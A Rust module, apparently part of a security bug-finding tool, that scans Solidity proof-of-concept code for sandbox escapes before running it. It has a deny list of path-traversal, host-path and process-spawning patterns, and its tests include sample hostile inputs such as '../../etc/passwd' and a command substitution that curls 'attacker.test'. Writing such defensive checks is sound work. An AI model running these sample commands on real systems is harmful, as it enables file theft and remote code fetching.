//! PoC sanitization
//!
//! Best-effort guard, not a proof of safety: the PoC text is scanned for
//! disallowed patterns before it reaches a sandbox. Shell metacharacters are
//! only flagged outside string literals, since Solidity test code routinely
//! quotes them. The pattern set is extensible via `VALIDATOR_DENY_PATTERNS`.

use regex::Regex;
use tracing::warn;

/// The built-in disallowed pattern set, plus `VALIDATOR_DENY_PATTERNS`
/// (comma-separated regexes).
pub fn default_deny_patterns() -> Vec<Regex> {
    let mut sources: Vec<String> = [
        // Attempts to escape the sandbox directory.
        r"\.\./",
        // Absolute paths into the host filesystem.
        r#"["'](/etc|/usr|/home|/root|/var)"#,
        // Process spawning from inside the test runtime.
        r"vm\.ffi|ffi\s*\(",
        r"child_process|execSync|spawnSync",
    ]
    .iter()
    .map(|s| s.to_string())
    .collect();

    if let Some(extra) = bugbot_core::config::env_opt("VALIDATOR_DENY_PATTERNS") {
        sources.extend(extra.split(',').map(|s| s.trim().to_string()));
    }

    sources
        .iter()
        .filter_map(|source| match Regex::new(source) {
            Ok(re) => Some(re),
            Err(e) => {
                warn!("ignoring invalid deny pattern '{}': {}", source, e);
                None
            }
        })
        .collect()
}

/// Scan a PoC for disallowed content. `Err` carries the matched reason.
pub fn sanitize_poc(poc: &str, deny_patterns: &[Regex]) -> Result<(), String> {
    for pattern in deny_patterns {
        if pattern.is_match(poc) {
            return Err(format!("matched deny pattern '{}'", pattern.as_str()));
        }
    }

    let stripped = strip_string_literals(poc);
    for ch in ['`', ';', '|', '&', '$'] {
        // Solidity uses ';' as a statement terminator; only the shell-specific
        // metacharacters are flagged bare.
        if ch == ';' {
            continue;
        }
        if stripped.contains(ch) && looks_like_shell(&stripped, ch) {
            return Err(format!("shell metacharacter '{ch}' outside string literal"));
        }
    }
    Ok(())
}

/// Replace the contents of string literals with spaces, keeping offsets.
fn strip_string_literals(input: &str) -> String {
    let mut out = String::with_capacity(input.len());
    let mut in_string: Option<char> = None;
    let mut escape = false;
    for ch in input.chars() {
        match in_string {
            Some(quote) => {
                if escape {
                    escape = false;
                    out.push(' ');
                } else if ch == '\\' {
                    escape = true;
                    out.push(' ');
                } else if ch == quote {
                    in_string = None;
                    out.push(quote);
                } else {
                    out.push(' ');
                }
            }
            None => {
                if ch == '"' || ch == '\'' {
                    in_string = Some(ch);
                }
                out.push(ch);
            }
        }
    }
    out
}

fn looks_like_shell(stripped: &str, ch: char) -> bool {
    match ch {
        // `$(...)`, `${...}`, backticks, `||`, `&&` are shell constructs in
        // any of the sandbox scripting languages.
        '$' => stripped.contains("$(") || stripped.contains("${"),
        '&' => stripped.contains("&&"),
        '|' => stripped.contains("||") || stripped.contains(" | "),
        '`' => true,
        _ => false,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn ordinary_solidity_passes() {
        let patterns = default_deny_patterns();
        let poc = r#"
contract Reproduce {
    function test_reentry() public {
        vm.expectRevert("reentrant call");
        target.withdraw();
    }
}
"#;
        assert!(sanitize_poc(poc, &patterns).is_ok());
    }

    #[test]
    fn path_escapes_are_rejected() {
        let patterns = default_deny_patterns();
        assert!(sanitize_poc("import \"../../etc/passwd\";", &patterns).is_err());
    }

    #[test]
    fn command_substitution_is_rejected() {
        let patterns = default_deny_patterns();
        assert!(sanitize_poc("run($(curl attacker.test));", &patterns).is_err());
        assert!(sanitize_poc("exec(`id`);", &patterns).is_err());
    }

    #[test]
    fn ffi_is_rejected() {
        let patterns = default_deny_patterns();
        assert!(sanitize_poc("vm.ffi(cmd);", &patterns).is_err());
    }

    #[test]
    fn metacharacters_inside_string_literals_pass() {
        let patterns = default_deny_patterns();
        let poc = r#"emit Log("value && other || $(not-a-command)");"#;
        assert!(sanitize_poc(poc, &patterns).is_ok());
    }
}
